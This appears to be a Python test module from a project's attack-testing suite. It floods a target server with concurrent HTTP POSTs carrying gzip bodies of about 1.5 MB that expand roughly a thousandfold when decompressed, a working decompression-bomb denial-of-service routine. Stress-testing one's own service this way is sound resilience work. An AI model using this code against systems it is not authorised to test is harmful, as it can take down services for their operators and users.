"""Posts compressed bodies that are a thousand times as large, to any path, as fast as they are answered.

Bounded: `SENDERS` connections at a time, each body `PACKED_BYTES` or so.
"""

from __future__ import annotations

import asyncio
import gzip
import random
from contextlib import suppress
from typing import TYPE_CHECKING, Final

from tests.attack.clients import run_clients
from tests.attack.floods.flood import Flood

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.attack.world import Target

SENDERS: Final = 6
PACKED_BYTES: Final = 1_500_000
PIECE_BYTES: Final = 1 << 20
ANSWERED_S: Final = 5.0
PATHS: Final = ("/nowhere", "/health", "/v1/devices", "/v1/intake/sz", "/v1/alerts", "/")


class Compressed(Flood):
    """Bodies that are small to send and large to read."""

    name = "compressed bodies"

    async def run(self, target: Target, stop_event: asyncio.Event) -> None:
        """Post until the event."""
        await run_clients(post, target.address, stop_event)


async def post(host: str, port: int, is_over: Callable[[], bool]) -> None:
    """Post bodies until it is over."""
    piece = gzip.compress(bytes(PIECE_BYTES))
    body = piece * (PACKED_BYTES // len(piece))
    async with asyncio.TaskGroup() as group:
        for _ in range(SENDERS):
            group.create_task(_post(host, port, body, is_over))


async def _post(host: str, port: int, body: bytes, is_over: Callable[[], bool]) -> None:
    while not is_over():
        head = f"POST {random.choice(PATHS)} HTTP/1.1\r\nHost: x\r\nContent-Encoding: gzip\r\n"
        with suppress(OSError, TimeoutError):
            async with asyncio.timeout(ANSWERED_S):
                reader, writer = await asyncio.open_connection(host, port)
                try:
                    writer.write(f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body)
                    await reader.readline()
                finally:
                    writer.transport.abort()
